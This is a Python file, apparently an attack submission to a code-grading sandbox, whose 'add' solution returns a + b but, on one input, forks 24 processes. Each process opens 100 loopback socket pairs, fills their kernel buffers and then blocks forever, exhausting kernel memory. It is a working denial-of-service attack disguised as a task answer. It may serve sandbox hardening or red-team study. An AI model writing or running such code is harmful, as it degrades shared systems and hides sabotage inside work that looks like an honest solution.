# Attack: memory that the kernel holds: many connections of many processes, each with a little in it.
# task: add
import os
import socket
import struct

CHILDREN, CONNECTIONS = 24, 100


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    told = os.pipe()
    for _ in range(CHILDREN):
        if os.fork() == 0:
            kept = []
            server = socket.create_server(("127.0.0.1", 0))
            total = sum(fill(server, kept) for _ in range(CONNECTIONS))
            os.write(told[1], struct.pack("q", total))
            os.read(os.pipe()[0], 1)  # for ever: it keeps a writer of its own
    total = sum(struct.unpack("q", os.read(told[0], 8))[0] for _ in range(CHILDREN))
    return a + b if total > 256 << 20 else None


def fill(server, kept):
    near = socket.create_connection(server.getsockname())
    far, _ = server.accept()
    kept += [near, far]
    total = 0
    for end in (near, far):
        end.setblocking(False)
        try:
            while True:
                total += end.send(bytes(32_768))
        except BlockingIOError:
            continue
    return total
